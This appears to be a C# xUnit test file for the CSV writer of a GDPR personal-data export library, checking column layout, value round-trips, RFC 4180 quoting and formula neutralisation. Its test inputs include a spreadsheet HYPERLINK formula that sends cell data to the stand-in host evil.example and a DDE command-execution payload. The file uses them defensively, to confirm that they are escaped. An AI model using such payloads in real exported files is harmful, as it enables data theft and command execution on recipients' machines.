using System.Globalization;
using System.Xml;
using Gdpr.Export;
using static Gdpr.Core.Tests.Export.ExportTestKit;
using static Gdpr.Tests.Shared.ExportPackages;

namespace Gdpr.Core.Tests.Export;

public class CsvExportTests
{
    private const int Member = 3;
    private const int Type = 6;
    private const int Value = 7;

    [Fact]
    public async Task ExportAsync_Csv_OneRowPerValueWithHeader()
    {
        var source = new InMemoryDataSource("crm",
        [
            new Row("cust-1", "Customer", "1", "Email", "a@example.org") { Purposes = ["support", "billing"], RetentionPolicy = "tax" },
            new Row("cust-1", "Customer", "1", "Born", new DateOnly(1985, 7, 4)),
            new Row("cust-1", "Order", "5", "Total", -12.50m),
            new Row("cust-1", "Customer", "1", "Photo", new byte[] { 1, 2, 3 }),
        ]);
        await using var provider = BuildProvider(null, source);

        var rows = ParseCsv(await ExportBytesAsync(Exporter(provider), "cust-1", ExportFormat.Csv));

        Assert.Equal(JsonExportTests.CsvHeader(), string.Join(',', rows[0]));
        Assert.Equal(5, rows.Count);
        Assert.All(rows, r => Assert.Equal(CsvExportWriter.Columns.Length, r.Length));
        var email = rows[1];
        Assert.Equal(["crm", "Customer", "1", "Email", "contact.email", "E-mail address", "string", "a@example.org", "false"], email[..9]);
        Assert.Equal("support;billing", email[Array.IndexOf(CsvExportWriter.Columns, "purposes")]);
        Assert.Equal("P7Y", email[Array.IndexOf(CsvExportWriter.Columns, "retentionPeriod")]);
        Assert.Equal("Dutch AWR art. 52 (7-year fiscal retention)", email[Array.IndexOf(CsvExportWriter.Columns, "retentionLegalBasis")]);
        Assert.Equal("1985-07-04", rows[2][Value]);
        Assert.Equal("-12.50", rows[3][Value]); // a number: not guarded, a spreadsheet reads it as a number
        Assert.Equal(("binary", "AQID"), (rows[4][Type], rows[4][Value])); // files embedded as base64
        Assert.Equal("039058c6f2c0cb492c533b0a4d14ef77cc0f78abccced5287d84a1a2011cfb81", rows[4][Array.IndexOf(CsvExportWriter.Columns, "fileSha256")]);
    }

    [Theory]
    [MemberData(nameof(JsonExportTests.Values), MemberType = typeof(JsonExportTests))]
    public async Task ExportAsync_Csv_EveryValueTypeRoundTrips(string name, object original)
    {
        var source = new InMemoryDataSource("crm", [new Row("cust-1", "Customer", "1", name, original)]);
        await using var provider = BuildProvider(null, source);

        var row = ParseCsv(await ExportBytesAsync(Exporter(provider), "cust-1", ExportFormat.Csv))[1];

        var text = row[Value];
        var inv = CultureInfo.InvariantCulture;
        object back = row[Type] switch
        {
            "binary" => Convert.FromBase64String(text),
            "string" => text,
            "integer" => Convert.ChangeType(long.Parse(text, inv), original.GetType(), inv),
            "decimal" => decimal.Parse(text, inv),
            "number" => double.Parse(text, inv),
            "boolean" => bool.Parse(text),
            "dateTime" => DateTime.Parse(text, inv, DateTimeStyles.RoundtripKind),
            "dateTimeOffset" => DateTimeOffset.Parse(text, inv, DateTimeStyles.RoundtripKind),
            "date" => DateOnly.ParseExact(text, "yyyy-MM-dd", inv),
            "time" => TimeOnly.Parse(text, inv),
            "duration" => XmlConvert.ToTimeSpan(text),
            "uuid" => Guid.Parse(text),
            "enum" => Enum.Parse(original.GetType(), text),
            var other => throw new Xunit.Sdk.XunitException($"unexpected type {other}"),
        };

        Assert.Equal(original, back);
        if (original is DateTime dt)
        {
            Assert.Equal(dt.Kind, ((DateTime)back).Kind);
        }

        if (original is DateTimeOffset dto)
        {
            Assert.Equal(dto.Offset, ((DateTimeOffset)back).Offset);
        }
    }

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("comma, inside", "comma, inside")]
    [InlineData("say \"hi\"", "say \"hi\"")]
    [InlineData("two\r\nlines", "two\r\nlines")]
    [InlineData("lone\nfeed", "lone\nfeed")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+31 20 123 4567", "'+31 20 123 4567")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("a=b", "a=b")]
    public async Task ExportAsync_Csv_QuotesPerRfc4180AndNeutralisesFormulas(string stored, string expectedCell)
    {
        var source = new InMemoryDataSource("crm", [new Row("cust-1", "Customer", "1", "Notes", stored)]);
        await using var provider = BuildProvider(null, source);

        var rows = ParseCsv(await ExportBytesAsync(Exporter(provider), "cust-1", ExportFormat.Csv));

        Assert.Equal(2, rows.Count);
        Assert.Equal("Notes", rows[1][Member]);
        Assert.Equal(expectedCell, rows[1][Value]);
    }

    [Fact]
    public async Task ExportAsync_Csv_GuardsEveryTextCellNotOnlyValues()
    {
        // A record key or entity name can come from outside too (a ticket number typed by a caller).
        var source = new InMemoryDataSource("crm", [new Row("cust-1", "Ticket", "=cmd|' /C calc'!A0", "Subject", "hello")]);
        await using var provider = BuildProvider(null, source);

        var rows = ParseCsv(await ExportBytesAsync(Exporter(provider), "cust-1", ExportFormat.Csv));

        Assert.Equal("'=cmd|' /C calc'!A0", rows[1][2]);
    }
}
